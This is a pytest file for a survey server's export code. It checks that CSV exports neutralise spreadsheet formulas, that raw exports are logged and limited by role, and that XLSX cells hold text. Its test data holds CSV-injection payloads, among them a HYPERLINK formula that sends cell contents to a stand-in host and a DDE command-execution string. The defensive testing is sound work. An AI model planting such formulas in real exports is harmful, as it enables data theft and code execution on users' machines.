"""Spreadsheet formulas in exports (OWASP "CSV injection"), on a real central server.

A text answer that a spreadsheet would run (=HYPERLINK(...), +cmd|..., @SUM(...), a
leading tab or carriage return) gets a single quote before it in every CSV the server
writes; numbers stored as numbers stay as they are; `?raw=1` and `--raw` keep values as
stored, and say so in the audit.
"""

from __future__ import annotations

import csv
import io
import json
import uuid

import openpyxl
import pytest
from click.testing import CliRunner

from support import query
from sync_server.cli import cli
from sync_server.forms import publish
from sync_server.store import Store
from test_access_classes import Device
from test_workspace import signed_in, survey_record, team  # noqa: F401 - fixture

# About how export cells are written, not the server's storage: SQLite only
# (tests/conftest.py runs the others on PostgreSQL too).
SERVER_ENGINES = ("sqlite",)

FORM_ID = "field_notes"
# (stored text, what a CSV cell must hold)
TEXTS = [
    (
        '=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
        '\'=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5 days", "'-5 days"),  # text, even if it starts like a number
    ("a = b + c", "a = b + c"),  # a formula sign inside the text is harmless
    ("", ""),
]


def notes_form() -> dict:
    return {
        "form_id": FORM_ID,
        "version": "1",
        "title": {"en": "Field notes"},
        "sections": [
            {
                "name": "main",
                "label": {"en": "Main"},
                "questions": [
                    {
                        "name": "remark",
                        "type": "text",
                        "label": {"en": "Remark"},
                        "privacy": "keep",
                    },
                    {"name": "balance", "type": "integer", "label": {"en": "Balance"}},
                ],
            },
            {
                "name": "members",
                "label": {"en": "Members"},
                "repeat": True,
                "questions": [
                    {
                        "name": "member_note",
                        "type": "text",
                        "label": {"en": "Note"},
                        "privacy": "keep",
                    },
                    {"name": "member_balance", "type": "decimal", "label": {"en": "Balance"}},
                ],
            },
        ],
    }


@pytest.fixture
def notes(team):  # noqa: F811 - the fixture imported above
    """One record per dangerous text, each with a negative number and one instance."""
    store = Store(team.database)
    publish(store, json.dumps(notes_form()), "admin")
    store.close()
    records = []
    for n, (text, _) in enumerate(TEXTS):
        records.append(
            {
                "uuid": str(uuid.uuid4()),
                "revision": 1,
                "form_id": FORM_ID,
                "form_version": "1",
                "locale": "en",
                "collected": "2026-11-20",
                "enumerator": None,
                "answers": {
                    "remark": text,
                    "balance": -7 - n,
                    "members": [{"member_note": text, "member_balance": -1.5 - n}],
                },
            }
        )
    Device(team).stored(records)
    return records


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def by_uuid(rows, key="_uuid") -> dict:
    return {row[key]: row for row in rows}


def check_neutralized(main: bytes, members: bytes, records) -> None:
    rows, instances = by_uuid(csv_rows(main)), by_uuid(csv_rows(members), "_parent_uuid")
    for n, (record, (_, expected)) in enumerate(zip(records, TEXTS, strict=True)):
        assert rows[record["uuid"]]["remark"] == expected
        assert rows[record["uuid"]]["balance"] == str(-7 - n)  # a number: as it is
        assert instances[record["uuid"]]["member_note"] == expected
        assert instances[record["uuid"]]["member_balance"] == str(-1.5 - n)


def check_raw(main: bytes, members: bytes, records) -> None:
    rows, instances = by_uuid(csv_rows(main)), by_uuid(csv_rows(members), "_parent_uuid")
    for record, (text, _) in zip(records, TEXTS, strict=True):
        assert rows[record["uuid"]]["remark"] == text
        assert instances[record["uuid"]]["member_note"] == text


def exports_audit(central) -> list[str]:
    return [
        row["detail"]
        for row in query(
            central.database, "SELECT detail FROM audit WHERE action = 'export' ORDER BY id"
        )
    ]


def test_web_csv_exports_neutralize_formulas(team, notes):
    for role in ("analyst", "admin"):
        person = signed_in(team, role)
        main = person.get(f"/data/{FORM_ID}/export.csv")
        members = person.get(f"/data/{FORM_ID}/export.csv?repeat=members")
        assert main.status_code == members.status_code == 200
        check_neutralized(main.content, members.content, notes)
    assert b"\n=" not in main.content and b",=" not in main.content


def test_raw_web_export_keeps_values_as_stored_and_is_logged(team, notes):
    # The records as stored (an admin's, with a reason): a handful of records would not
    # pass the disclosure check (sync_server.disclosure).
    analyst = signed_in(team, "admin")
    records = "&release=raw&reason=formula+check"
    main = analyst.get(f"/data/{FORM_ID}/export.csv?raw=1{records}")
    members = analyst.get(f"/data/{FORM_ID}/export.csv?repeat=members&raw=1{records}")
    check_raw(main.content, members.content, notes)
    stored = " records as stored, reason: formula check"
    assert exports_audit(team) == [
        f"{FORM_ID} csv raw{stored}",
        f"{FORM_ID} csv repeat members raw{stored}",
    ]
    # Anything but raw=1 is the safe export; a viewer gets no export at all.
    check_neutralized(
        analyst.get(f"/data/{FORM_ID}/export.csv?raw=yes{records}").content,
        analyst.get(f"/data/{FORM_ID}/export.csv?repeat=members&raw=0{records}").content,
        notes,
    )
    assert signed_in(team, "viewer").get(f"/data/{FORM_ID}/export.csv?raw=1").status_code == 403


def test_command_line_csv_neutralizes_unless_raw(team, notes, tmp_path):
    data_dir = team.app.config["DATA_DIR"]

    def export(name, *options):
        out = tmp_path / name
        result = CliRunner().invoke(
            cli,
            [
                "export",
                "--form",
                FORM_ID,
                "--format",
                "csv",
                "--output",
                str(out),
                "--data-dir",
                data_dir,
                *options,
                "--raw-records",
                "--reason",
                "formula check",
            ],
        )
        assert result.exit_code == 0, result.output
        return out.read_bytes()

    check_neutralized(export("main.csv"), export("members.csv", "--repeat", "members"), notes)
    check_raw(
        export("raw.csv", "--raw"), export("raw-members.csv", "--repeat", "members", "--raw"), notes
    )
    stored = " records as stored, reason: formula check"
    assert exports_audit(team) == [
        f"{FORM_ID} csv{stored}",
        f"{FORM_ID} csv repeat members{stored}",
        f"{FORM_ID} csv raw{stored}",
        f"{FORM_ID} csv repeat members raw{stored}",
    ]


def test_xlsx_writes_text_as_text_never_as_a_formula(team, notes, tmp_path):
    response = signed_in(team, "analyst").get(f"/data/{FORM_ID}/export.xlsx")
    path = tmp_path / "notes.xlsx"
    path.write_bytes(response.content)
    sheet = openpyxl.load_workbook(path)["data"]
    header = [cell.value for cell in sheet[1]]
    remark, balance = header.index("remark"), header.index("balance")
    found = {}
    for row in sheet.iter_rows(min_row=2):
        assert row[remark].data_type != "f" and row[balance].data_type == "n"
        found[row[remark].value or ""] = row[balance].value
    # Text exactly as stored (a carriage return is stored as XML's escape, _x000D_, which
    # Excel reads back as one and openpyxl leaves as it is).
    assert set(found) == {text.replace("\r", "_x000D_") for text, _ in TEXTS}
    assert sorted(found.values()) == sorted(-7 - n for n in range(len(TEXTS)))


def test_indicator_csv_neutralizes_group_names(team):  # noqa: F811
    """Groups come from answers: an area sent as a formula is quoted in the indicator CSV."""
    records = [survey_record(n) for n in range(12)]
    for record in records:
        record["answers"]["area"] = "=1+1"
    Device(team).stored(records)
    viewer = signed_in(team, "viewer")
    response = viewer.get("/indicator.csv?view=life_satisfaction&by=area")
    assert response.status_code == 200
    rows = csv_rows(response.content)
    assert [row["group"] for row in rows] == ["'=1+1"] and rows[0]["n"] == "12"
    assert not rows[0]["estimate"].startswith("'")
